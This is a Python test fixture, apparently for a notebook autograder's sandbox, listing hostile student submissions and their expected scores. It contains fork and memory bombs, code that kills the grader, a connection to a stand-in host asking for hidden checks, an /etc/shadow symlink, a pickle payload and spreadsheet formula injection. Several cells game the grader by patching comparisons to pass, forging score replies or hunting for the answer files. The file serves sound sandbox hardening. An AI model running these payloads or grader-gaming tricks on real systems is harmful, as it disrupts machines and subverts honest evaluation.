# ruff: noqa
# Submissions that do not play by the rules, one a cell, in jupytext's percent format; test_hostile.py reads them.
#
#   attack   name of the student
#   holds    "answers": the notebook holds all right answers besides, so that the attack must neither cost nor earn a point;
#            "nothing": it is the untouched notebook
#   score    what it deserves, of 20
#   notes, look, says   words in the row's notes, in its reason to look, in the feedback; no notes and no look where left out
#
# Each runs after `PORT, CANARY, MARKER = ...`: a server that listens on this machine, a file that none may write on it, and
# an argument of processes that must not outlive the sandbox.

# %% attack="network" holds="answers" score=20
import socket

for place in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(place, 2).sendall(b"the hidden checks, please")
    except OSError:
        continue
    raise RuntimeError("connected")

# %% attack="writes_outside" holds="answers" score=20
import os

for place in ["/x", "/etc/x", "/usr/x", "/dev/x", "/course/worker.py", "/proc/sys/vm/swappiness", torch.__file__]:
    try:
        open(place, "w").write("1")
    except OSError:
        continue
    raise RuntimeError("wrote " + place)
os.makedirs(os.path.dirname(CANARY), exist_ok=True)
open(CANARY, "w").write("1")

# %% attack="links" holds="answers" score=20
import os

for name, target in {"a": "/", "b": "/etc/shadow", "c": "/usr/bin/env", "results.json": "/dev/zero"}.items():
    os.symlink(target, name)
try:
    open("c", "w").write("1")
    raise RuntimeError("wrote through the link")
except OSError:
    pass


# %% attack="reduce" holds="answers" score=17 says="expected torch.Tensor, got a value of type Evil"
class Evil:
    def __reduce__(self):
        return open, (CANARY, "w")


def linear_alphas_cumprod(*args):
    return Evil()


# %% attack="patches_everything" holds="nothing" score=0 notes="the process ended" look="it was stopped 4 times"
import builtins, json, sys, numpy

torch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a: True
torch.Tensor.shape = property(lambda self: ())
builtins.AssertionError = ZeroDivisionError
json.loads = lambda *a, **k: {"op": "call", "error": None}
for module in list(sys.modules.values()):
    if hasattr(module, "compare"):
        module.compare = lambda *a, **k: None

# %% attack="patches_the_worker" holds="nothing" score=0 notes="returned what cannot be read" says="what the function returned cannot be read"
import codec


def linear_alphas_cumprod(*args):
    return None


q_sample = q_posterior = from_velocity = cosine_betas = log_snr = first_noisy_index = linear_alphas_cumprod
codec.encode = lambda value, depth=0: {"tensor": "////", "dtype": "object", "shape": [-1], "device": "cuda"}

# %% attack="sys_exit" holds="answers" score=20 notes="SystemExit"
import sys

sys.exit(0)

# %% attack="os_exit" holds="answers" score=20 notes="is left out: the process ended"
import os

os._exit(0)

# %% attack="os_exit_in_a_function" holds="answers" score=17 notes="linear_alphas_cumprod: the process ended" says="linear_alphas_cumprod was stopped"
import os


def linear_alphas_cumprod(*args):
    os._exit(0)


# %% attack="os_exit_everywhere" holds="nothing" score=0 notes="the process ended" look="it was stopped 4 times"
import os


def linear_alphas_cumprod(*args):
    os._exit(0)


q_sample = q_posterior = from_velocity = cosine_betas = log_snr = first_noisy_index = linear_alphas_cumprod

# %% attack="segfault" holds="answers" score=20 notes="killed by signal 11"
import ctypes

ctypes.string_at(0)

# %% attack="swallows_interrupts" holds="answers" score=20 notes="is left out: it ran longer than"
import signal

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass


# %% attack="hangs_in_a_function" holds="answers" score=17 notes="linear_alphas_cumprod: it ran longer than" says="linear_alphas_cumprod was stopped: it ran longer"
def linear_alphas_cumprod(*args):
    while True:
        pass


# %% attack="fork_bomb" holds="answers" score=20 notes="is left out"
import os

while True:
    os.fork()

# %% attack="fork_bomb_of_orphans" holds="answers" score=20 notes="is left out"
import os, time

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.01)

# %% attack="memory_bomb" holds="answers" score=20 notes="MemoryError"
hoard = []
while True:
    hoard.append(bytearray(b"x") * (1 << 26))

# %% attack="memory_bomb_of_many" holds="answers" score=20 notes="of memory"
import os, time

for _ in range(8):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (200 << 20)
        time.sleep(60)
time.sleep(60)

# %% attack="fills_the_disk" holds="answers" score=20
for place in ("/tmp/full", "/dev/shm/full"):
    try:
        with open(place, "wb") as file:
            while True:
                file.write(b"x" * (1 << 24))
    except OSError:
        pass

# %% attack="prints_without_end" holds="answers" score=20 notes="it ran longer than"
while True:
    print("x" * 1_000_000)


# %% attack="returns_too_much" holds="answers" score=17 notes="an answer of more than 32 MiB"
def linear_alphas_cumprod(*args):
    return torch.zeros(4_000_000, dtype=torch.float64)


# %% attack="returns_a_labyrinth" holds="answers" score=17 says="expected torch.Tensor, got a value of type list"
def linear_alphas_cumprod(*args):
    labyrinth = []
    for _ in range(100_000):
        labyrinth = [labyrinth]
    return labyrinth


# %% attack="looks_for_the_answers" holds="nothing" score=0
import importlib.util, os, shlex, subprocess

search = """
find / '(' -path /proc -o -path /dev -o -name share -o -name include ')' -prune
  -o -not -path '/usr/*' '(' -samefile /usr/lib -o -samefile /usr/bin ')' -prune
  -o -path '*-packages/diffusers' -not -empty -prune -print
  -o -path '*-packages/*' -type d -prune
  -o -not -type d '(' -name '*noising*' -o -name q1.py -o -name exercise.json ')' -print
  -o -path /course/minilib/diffusion/schedules.py -print
"""
found = subprocess.run(shlex.split(search), capture_output=True, text=True).stdout.split()
if found != ["/course/minilib/diffusion/schedules.py"]:  # the library is there: so the search has worked
    raise RuntimeError(f"found {found}")
if importlib.util.find_spec("minilib.grading"):
    raise RuntimeError("found the grader's sources")
if "cumprod(1" in open("/course/minilib/diffusion/schedules.py").read():
    raise RuntimeError("found the library's answers")
for number in os.listdir("/proc"):
    if number.isdigit() and b"pytest" in open(f"/proc/{number}/cmdline", "rb").read():
        raise RuntimeError("found the grader's process")

# %% attack="forges_replies" holds="nothing" score=0 notes="something else than the answer came back"
import json, os

for descriptor in range(64):
    try:
        os.write(descriptor, (json.dumps({"id": "0", "value": 1, "passed": True, "score": 20}) + "\n").encode() * 3)
    except OSError:
        pass

# %% attack="speaks_jupyter" holds="nothing" score=0
import sys

for _ in range(3):
    sys.__stdout__.write('<IDS|MSG>\n{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}\n')
    sys.__stdout__.flush()
get_ipython().display_pub.publish({"application/json": {"score": 20}})


# %% attack="objects_that_lie" holds="answers" score=13 says="expected torch.Tensor, got a value of type float"
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True

    def __float__(self):
        return 0.9


class LyingInt(int):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def linear_alphas_cumprod(number, *args):
    return torch.zeros(number, dtype=torch.float64).as_subclass(Liar)


def cosine_betas(number, *args):
    return 0.5


def log_snr(betas):
    return [True]


def first_noisy_index(betas):
    return LyingInt(999)


# %% attack="kills_the_grader" holds="answers" score=20 notes="is left out: all processes of the sandbox ended"
import os, signal, time

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
time.sleep(1)

# %% attack="stops_its_parent" holds="answers" score=20 notes="is left out: it ran longer than"
import os, signal

os.kill(os.getppid(), signal.SIGSTOP)
os._exit(0)

# %% attack="leaves_processes_behind" holds="answers" score=20
import subprocess

subprocess.Popen(["sleep", MARKER], start_new_session=True)

# %% attack="closes_the_pipe" holds="answers" score=20 notes="is left out"
import os

os.closerange(3, 256)

# %% attack="formula_in_the_notes" holds="answers" score=20 notes="ValueError: =HYPERLINK"
raise ValueError('=HYPERLINK("http://192.0.2.1") \x1b[31m, \r\n anna,20')

# %% attack="asks_the_library" holds="nothing" score=0 says="would answer question q1: it is withheld while you are scored, write it yourself"
from minilib.diffusion.process import GaussianDiffusion
from minilib.diffusion.schedules import alphas_cumprod, cosine_betas, linear_betas, log_snr


def linear_alphas_cumprod(number, *args):
    return alphas_cumprod(linear_betas(number))


def q_sample(x0, t, noise, alphas_cumprod):
    return GaussianDiffusion(torch.linspace(1e-4, 0.02, 1000)).q_sample(x0, t, noise)


def q_posterior(x0, x_t, t, betas):
    return GaussianDiffusion(betas).q_posterior(x0, x_t, t)


def from_velocity(v, x_t, t, alphas_cumprod):
    return GaussianDiffusion.predict_x0(None, v, x_t, t, prediction_type="v_prediction")


def first_noisy_index(betas):
    return int((log_snr(betas) < 0).nonzero()[0])
